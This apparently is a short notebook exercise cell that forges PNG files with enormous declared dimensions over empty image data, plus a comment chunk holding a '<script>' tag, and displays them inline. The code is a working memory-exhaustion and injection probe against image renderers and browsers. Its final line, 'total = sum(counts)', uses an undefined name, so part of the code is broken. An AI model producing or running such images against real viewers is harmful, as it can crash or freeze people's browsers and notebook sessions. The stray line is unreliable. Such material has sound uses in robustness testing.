# class: people
# tries: pictures that are small in bytes and fill a browser's memory
# marks: all

# %% total
import struct, zlib
from IPython.display import Image, display

def chunk(kind, data):
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

def picture(width, height):
    head = struct.pack("!IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"tEXt", b"Comment\0<script>") + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")

display(Image(picture(60_000, 60_000)), Image(picture(2**31 - 1, 1)), Image(picture(2**31 - 1, 2**31 - 1)))
total = sum(counts)

# %% hand-in
